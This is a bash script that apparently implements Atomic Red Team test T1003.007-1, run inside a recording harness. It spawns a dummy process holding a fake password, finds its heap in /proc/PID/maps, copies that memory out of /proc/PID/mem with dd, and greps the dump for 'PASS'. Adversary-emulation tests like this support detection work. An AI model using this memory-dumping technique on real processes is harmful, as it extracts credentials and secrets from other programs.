#!/usr/bin/env bash
# Atomic Red Team T1003.007-1: Dump individual process memory with sh (Local)
# atomic GUID 7e91138a-8e74-456d-a007-973d67a0bb80; technique T1003.007
# record.sh runs `case.sh run DIR` under the agent (recorded), then `case.sh cleanup DIR`.
W="${2:?usage: $0 run|cleanup DIR}"
cd "$W" || exit 1
run() {
    sh -c 'echo "T1003.007 PASSWORD=s3cr3t" >/dev/null; exec sleep 30' T1003.007 &
    sleep 0.5
    PID=$(pgrep -n -f "T1003.007")
    HEAP_MEM=$(grep -E "^[0-9a-f-]* r" /proc/"$PID"/maps | grep heap | cut -d' ' -f 1)
    MEM_START=$(echo $((0x$(echo "$HEAP_MEM" | cut -d"-" -f1))))
    MEM_STOP=$(echo $((0x$(echo "$HEAP_MEM" | cut -d"-" -f2))))
    MEM_SIZE=$(echo $((MEM_STOP-MEM_START)))
    dd if=/proc/"${PID}"/mem of="$W/T1003.007.bin" ibs=1 skip="$MEM_START" count="$MEM_SIZE" 2>/dev/null
    grep -i "PASS" "$W/T1003.007.bin" >/dev/null
    kill "$PID" 2>/dev/null
}
cleanup() {
    :
}
"$1"
